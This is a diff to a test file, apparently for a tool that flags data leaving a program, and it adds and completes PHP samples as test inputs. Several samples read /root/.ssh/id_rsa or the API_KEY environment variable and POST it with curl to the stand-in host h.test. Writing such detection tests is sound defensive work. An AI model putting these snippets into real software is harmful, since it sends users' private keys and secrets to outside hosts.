@@ -73,7 +73,7 @@ describe('what leaves and what runs', () => {
     ],
     [
       'php',
-      "<?php\n$d = file_get_contents('/root/.ssh/id_rsa');\n$ch = curl_init('https://h.test');\ncurl_setopt($ch, CURLOPT_POSTFIELDS, $d);",
+      "<?php\n$d = file_get_contents('/root/.ssh/id_rsa');\n$ch = curl_init('https://h.test');\ncurl_setopt($ch, CURLOPT_POSTFIELDS, $d);\ncurl_exec($ch);",
       'content:ssh network:body h.test',
     ],
     [
@@ -153,8 +153,18 @@ describe('functions of the program', () => {
     ],
     [
       'php',
-      "<?php\nfunction latest($url) {\n  return file_get_contents($url);\n}\nfunction grab() { return file_get_contents('/root/.ssh/id_rsa'); }\nfunction ship($d) {\n  $ch = curl_init('https://h.test');\n  curl_setopt($ch, CURLOPT_POSTFIELDS, $d);\n}\nship(grab());",
+      "<?php\nfunction latest($url) {\n  return file_get_contents($url);\n}\nfunction grab() { return file_get_contents('/root/.ssh/id_rsa'); }\nfunction ship($d) {\n  $ch = curl_init('https://h.test');\n  curl_setopt($ch, CURLOPT_POSTFIELDS, $d);\n  curl_exec($ch);\n}\nship(grab());",
       'content:ssh network:body h.test',
+    ],
+    [
+      'php',
+      "<?php\n$ch = curl_init();\ncurl_setopt($ch, CURLOPT_POSTFIELDS, getenv('API_KEY'));\ncurl_setopt($ch, CURLOPT_URL, 'https://h.test/in');\ncurl_exec($ch);",
+      'env:API_KEY network:body h.test',
+    ],
+    [
+      'php',
+      "<?php\n$ch = curl_init('https://h.test/in');\ncurl_setopt_array($ch, [CURLOPT_POST => true, CURLOPT_POSTFIELDS => getenv('API_KEY')]);\ncurl_exec($ch);",
+      'env:API_KEY network:body h.test',
     ],
     [
       'pl',
